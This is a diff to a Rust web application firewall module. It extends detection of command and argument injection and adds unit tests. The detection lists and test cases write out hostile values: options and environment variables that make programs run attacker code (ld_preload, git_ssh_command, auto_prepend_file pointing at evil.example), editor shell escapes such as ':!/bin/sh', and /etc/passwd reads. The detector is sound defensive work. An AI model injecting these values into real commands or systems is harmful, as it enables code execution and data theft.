@@ -6,7 +6,9 @@ use super::context;
 use super::word::Word;
 use crate::waf::rules::Rule;
 use crate::waf::rules::shell as rules;
-use crate::waf::scan::{at, find, is_space, is_word, skip_space, skip_while, span, stands};
+use crate::waf::scan::{
+    Needles, at, find, from, is_space, is_word, skip_space, skip_while, span, stands, trim,
+};
 
 /// Words of a sentence after which a command is talked about rather than run.
 const MAX_WORDS: usize = 3;
@@ -82,6 +84,9 @@ pub(super) fn judge(text: &[u8], first: usize) -> Option<(&'static Rule, usize, 
     if !is_severe && (is_served(&word, argument) || is_tidied(text, &word)) {
         return None;
     }
+    // `id|`: Perl's `open` runs it.
+    let is_piped =
+        matches!(class, Class::Recon | Class::Bare) && trim(from(text, word.end)) == b"|";
     let is_program = word.is_path && word.is_program && class != Class::Tame && !is_idle;
     let is_redirected =
         proof == Proof::Hard && matches!(at(text, word.end), b'<' | b'>') && word.name().len() > 1;
@@ -89,7 +94,9 @@ pub(super) fn judge(text: &[u8], first: usize) -> Option<(&'static Rule, usize, 
     // `tail -f /var/log/syslog` is what people look for.
     let is_watched =
         matches!((word.name(), argument), (b"tail", b"-f") | (b"find", b".")) && !is_severe;
-    if is_watched || !(is_known || runs || is_program || is_redirected || is_interpreter) {
+    if is_watched
+        || !(is_known || is_piped || runs || is_program || is_redirected || is_interpreter)
+    {
         return None;
     }
     let rule = if word.is_evaded {
@@ -332,7 +339,118 @@ fn computes(text: &[u8], first: usize) -> Option<usize> {
     (number > sum && end > number && end >= text.len()).then_some(end)
 }
 
+/// What an option that attackers add makes a program run, load or read.
+static RUNS: Needles<'static> = Needles::new(&[
+    b"sh -c ",
+    b"sh -i",
+    b"-javaagent:",
+    b"onoutofmemoryerror=",
+    b"-cmd-prefix=",
+    b"-launcher=",
+    b"core.pager=",
+    b"core.editor=",
+    b"core.fsmonitor=",
+    b"core.hookspath=",
+    b"--exec-path=/",
+    b"ext::",
+    b"auto_prepend_file",
+    b"/proc/self/",
+    b"concat:http",
+    b"textfile=/",
+    b"amovie=/",
+    b"file:///",
+    b"unzip-command=",
+    b"k http:",
+    b"/etc/passwd",
+]);
+/// Longest value that is read as options.
+const MAX_OPTIONS: usize = 300;
+
+/// Variables that make the next program run what they name.
+const VARIABLES: &[&[u8]] = &[
+    b"perl5opt=-m",
+    b"rubyopt=-r",
+    b"java_tool_options=-javaagent",
+    b"pythonstartup=/tmp/",
+    b"prompt_command=",
+    b"ld_preload=",
+    b"ld_library_path=/tmp",
+    b"git_ssh_command=",
+    b"bash_env=",
+];
+/// Escapes from an editor or a client to a shell.
+const ESCAPES: &[&[u8]] = &[b"\\! ", b":!", b"!/bin/"];
+
+/// Where an option, a variable or an escape ends that runs what follows it.
 fn injected_option(text: &[u8], first: usize) -> Option<usize> {
-    let option = OPTIONS.iter().find(|option| stands(text, first, option))?;
-    Some(first + option.len())
+    let starts = |heads: &[&[u8]]| {
+        let head = heads.iter().find(|head| stands(text, first, head))?;
+        Some(first + head.len())
+    };
+    if let Some(end) = starts(OPTIONS) {
+        return Some(end);
+    }
+    if text.len() > MAX_OPTIONS || text.contains(&b'\n') {
+        return None;
+    }
+    let is_option = at(text, first) == b'-'
+        && at(text, skip_while(text, first, |byte| byte == b'-')).is_ascii_alphabetic();
+    if is_option {
+        return RUNS.find(text, first).map(|(start, run)| start + run.len());
+    }
+    if let Some(end) = starts(VARIABLES) {
+        // `GIT_SSH_COMMAND="ssh -i key"` names the key to use.
+        let value = skip_while(text, end, |byte| matches!(byte, b'"' | b'\''));
+        let is_key = stands(text, value, b"ssh ");
+        return (!is_key && value < text.len()).then_some(end);
+    }
+    let end = starts(ESCAPES)?;
+    let is_command = at(text, end) == b'/'
+        || Word::read(text, end).is_some_and(|word| {
+            word.class().is_some_and(|class| class != Class::Tame)
+                && words_after(text, word.end) == 0
+        });
+    is_command.then_some(end)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn options_variables_and_escapes_run_what_they_name() {
+        let is_found = |text: &str| injected_option(text.as_bytes(), 0).is_some();
+        for attack in [
+            "-e sh -c id",
+            "-tt 'sh -c id'",
+            "--gpu-launcher=\"bash -c id\"",
+            "-xx:onoutofmemoryerror=\"id\"",
+            "-javaagent:/tmp/x.jar",
+            "-d auto_prepend_file=http://evil.example/x",
+            "-k http://evil.example/cfg",
+            "perl5opt=-mbase;print(`id`)",
+            "git_ssh_command=id",
+            "prompt_command=id",
+            "ld_preload=./x.so",
+            "\\! id",
+            ":!id",
+            ":!/bin/sh",
+            "!/bin/bash",
+        ] {
+            assert!(is_found(attack), "{attack}");
+        }
+        for honest in [
+            "- sh -c is what the image runs",
+            "-site:example.com cheap flights",
+            "-5 degrees, sh -c id",
+            "git_ssh_command=\"ssh -i ~/.ssh/deploy\" git clone x",
+            "java_tool_options=-xmx512m",
+            "rubyopt=-w0",
+            ":!important",
+            "!important",
+            "\\! and \\? in a pattern",
+        ] {
+            assert!(!is_found(honest), "{honest}");
+        }
+    }
 }
